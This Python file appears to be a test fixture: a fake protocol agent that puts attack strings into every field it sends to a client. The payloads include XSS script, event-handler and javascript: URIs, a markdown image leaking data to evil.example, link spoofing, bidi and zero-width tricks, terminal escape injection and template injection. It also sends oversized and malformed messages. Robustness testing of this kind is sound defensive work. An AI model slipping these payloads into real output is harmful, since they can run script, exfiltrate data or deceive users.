"""An agent that sends whatever it likes, as raw lines: `hostile` puts payloads into every string it sends."""

import base64
import json
import os
import struct
import sys
import zlib
from typing import Any

SCRIPT = "<script>window.ran?.push(1);pwned(1)</script>"
IMAGE = '<img src="https://evil.example/x.png" onerror="pwned(2)">'
PAYLOADS = "".join(
    (
        "a", SCRIPT, IMAGE, "<svg onload=pwned(3)>", "<iframe src=https://evil.example></iframe>",
        "[link](javascript:pwned(4))", "![image](https://evil.example/leak?data=1)",
        "[https://good.example](https://evil.example)", "\n\n<style>body{display:none}</style>\n\n",
        "\u202egnp.exe\u202c", "\u200b\u2066", "\x1b]8;;https://evil.example\x07text\x1b]8;;\x07\x1b[31mred\x1b[0m\x07",
        "data:text/html,<script>pwned(5)</script>", "{{constructor.constructor('pwned(6)')()}}",
        "';pwned(7)//",
    )
)  # fmt: skip


def send(message: dict[str, Any]) -> None:
    sys.stdout.write(json.dumps({"jsonrpc": "2.0", **message}) + "\n")
    sys.stdout.flush()


def update(value: dict[str, Any]) -> None:
    send({"method": "session/update", "params": {"sessionId": session, "update": value}})


def ask(number: int, method: str, params: dict[str, Any]) -> None:
    send({"id": f"q{number}", "method": method, "params": {"sessionId": session, **params}})
    for line in sys.stdin:
        if json.loads(line).get("id") == f"q{number}":
            return


def text(value: str) -> dict[str, Any]:
    return {"type": "text", "text": value}


def everything() -> None:
    p = PAYLOADS
    for kind in ("agent_message_chunk", "agent_thought_chunk", "user_message_chunk"):
        update({"sessionUpdate": kind, "content": text(p), "messageId": p})
        update({"sessionUpdate": kind, "content": {"type": "image", "data": p, "mimeType": p, "uri": p}})
        update(
            {
                "sessionUpdate": kind,
                "content": {"type": "image", "data": "", "mimeType": "image/svg+xml", "uri": p},
            }
        )
        update({"sessionUpdate": kind, "content": {"type": "audio", "data": p, "mimeType": p}})
        link = {
            "type": "resource_link",
            "uri": "javascript:pwned(8)",
            "name": p,
            "title": p,
            "description": p,
        }
        update({"sessionUpdate": kind, "content": link})
        update({"sessionUpdate": kind, "content": {**link, "uri": "https://evil.example/" + p}})
        update(
            {
                "sessionUpdate": kind,
                "content": {"type": "resource", "resource": {"uri": p, "text": p, "mimeType": p}},
            }
        )
        update({"sessionUpdate": kind, "content": {"type": p, p: p}})
    content = [
        {"type": "content", "content": text(p)},
        {"type": "diff", "path": p, "oldText": p, "newText": p + "b"},
        {"type": "terminal", "terminalId": p},
        {"type": p},
    ]
    call = {
        "toolCallId": "t", "title": p, "kind": p, "status": p, "name": p, "content": content,
        "locations": [{"path": p, "line": 1}, {"path": p}], "rawInput": {"command": p, p: p},
        "rawOutput": {p: p},
        "_meta": {"terminal_output": {"data": p}, "terminal_exit": {"signal": p}},
    }  # fmt: skip
    update({"sessionUpdate": "tool_call", **call})
    update({"sessionUpdate": "tool_call_update", **call, "status": "in_progress", "kind": "execute"})
    entries = [
        {"content": p, "status": p, "priority": p},
        {"content": p, "status": "completed", "priority": "high"},
    ]
    update({"sessionUpdate": "plan", "entries": entries})
    commands = [{"name": p, "description": p, "input": {"hint": p}}]
    update({"sessionUpdate": "available_commands_update", "availableCommands": commands})
    update({"sessionUpdate": "current_mode_update", "currentModeId": p})
    option = {"id": p, "name": p, "description": p, "category": p, "type": "select", "currentValue": p}
    option["options"] = [{"value": p, "name": p, "description": p}]  # pyright: ignore[reportArgumentType]
    update({"sessionUpdate": "config_option_update", "configOptions": [option]})
    update({"sessionUpdate": "usage_update", "used": 1, "size": 2, "cost": {"amount": 1, "currency": p}})
    update({"sessionUpdate": "session_info_update", "title": p})
    update({"sessionUpdate": "notice", "severity": p, "title": p, "description": p})
    update({"sessionUpdate": p, p: p})
    send({"method": "_" + p, "params": {"sessionId": session, p: p}})
    options = [{"optionId": p, "name": p, "kind": "allow_once"}, {"optionId": "n", "name": p, "kind": p}]
    ask(1, "session/request_permission", {"toolCall": {**call, "status": "pending"}, "options": options})
    fields = {
        "a": {"type": "string", "title": p, "description": p, "default": p, "pattern": p},
        "b": {"type": "string", "title": p, "oneOf": [{"const": p, "title": p}]},
        "c": {"type": "array", "title": p, "items": {"type": "string", "enum": [p]}},
        "d": {"type": "boolean", "title": p}, "e": {"type": p},
    }  # fmt: skip
    form = {
        "mode": "form",
        "message": p,
        "requestedSchema": {"type": "object", "properties": fields, "description": p},
    }
    ask(2, "elicitation/create", form)
    ask(
        3,
        "elicitation/create",
        {"mode": "url", "message": p, "elicitationId": "e", "url": "javascript:pwned(9)"},
    )


def huge() -> None:
    update({"sessionUpdate": "agent_message_chunk", "content": text("word " * 1_000_000)})
    before = "\n".join(f"line {n}" for n in range(10_000))
    after = before.replace("line ", "row ")
    diff = {"type": "diff", "path": "/big.py", "oldText": before, "newText": after}
    call = {
        "sessionUpdate": "tool_call",
        "toolCallId": "d",
        "title": "Edit",
        "kind": "edit",
        "status": "completed",
    }
    update({**call, "content": [diff]})


def picture() -> None:
    """A picture of one pixel with 20 MB of metadata."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
    words = chunk(b"tEXt", b"Comment\0" + b"x" * 20_000_000)
    pixel = chunk(b"IDAT", zlib.compress(b"\0\xff\0\0\xff"))
    png = b"\x89PNG\r\n\x1a\n" + header + words + pixel + chunk(b"IEND", b"")
    image = {"type": "image", "data": base64.b64encode(png).decode(), "mimeType": "image/png"}
    update({"sessionUpdate": "agent_message_chunk", "content": image})


def broken() -> None:
    """Bytes that are not text, inside and outside of a string; half a character; lines without a message."""
    begin = b'{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"%b","update":{'
    content = b'"sessionUpdate":"agent_message_chunk","content":{"type":"text","text":"%b"}}}}\n'
    for words in (b"caf\xe9 ", b"\xff\xfe ", b"\\ud83d alone ", b"\xed\xa0\x80 "):
        sys.stdout.buffer.write(begin % session.encode() + content % words)
    sys.stdout.buffer.write(begin % session.encode() + b'"bad": \xff}}}\n')
    sys.stdout.buffer.write(b"not a message\n\x00\x01\n[]\n7\n")
    sys.stdout.buffer.flush()
    update({"sessionUpdate": "agent_message_chunk", "content": text("and readable again")})


def dies() -> None:
    """Send its process id, ask for permission, and wait to be killed."""
    update({"sessionUpdate": "agent_message_chunk", "content": text(f"I am {os.getpid()}.")})
    unknown = [{"type": "future", "x": "left"}, {"type": "content", "content": {"type": "new", "x": "out"}}]
    call = {"toolCallId": "last", "title": "Edit", "kind": "edit", "status": "pending", "content": unknown}
    options = [{"optionId": "n", "name": "No", "kind": "reject_once"}]
    ask(9, "session/request_permission", {"toolCall": call, "options": options})


def strange() -> None:
    update({"sessionUpdate": "checkpoint_update", "checkpoint": "cp_03"})
    update({})
    send({"method": "session/update", "params": {"sessionId": session, "update": 7}})
    send({"method": "session/update", "params": {"sessionId": 9, "update": {}}})
    send({"method": "session/update"})
    update({"sessionUpdate": "tool_call_update", "toolCallId": "never announced", "status": "completed"})
    update({"sessionUpdate": "plan", "entries": "none"})
    update({"sessionUpdate": "agent_message_chunk"})


SHOWS = {
    "everything": everything, "huge": huge, "strange": strange, "picture": picture, "broken": broken,
    "dies": dies,
}  # fmt: skip
hostile = "hostile" in sys.argv
session, sessions = "", 0
for line in sys.stdin:
    request = json.loads(line)
    method, answer = request.get("method"), {}
    if method == "initialize":
        info = {"name": PAYLOADS, "title": PAYLOADS, "version": PAYLOADS} if hostile else {"name": "plain"}
        answer = {"protocolVersion": 1, "agentCapabilities": {}, "agentInfo": info}
    elif method == "session/new":
        modes = [{"id": PAYLOADS, "name": PAYLOADS, "description": PAYLOADS}] if hostile else []
        sessions += 1
        answer = {"sessionId": f"s{sessions}", "modes": {"currentModeId": "x", "availableModes": modes}}
    elif method == "session/prompt":
        session = request["params"]["sessionId"]
        SHOWS.get(request["params"]["prompt"][0]["text"], lambda: None)()
        answer = {"stopReason": PAYLOADS if hostile else "end_turn"}
    if "id" in request and method:
        send({"id": request["id"], "result": answer})
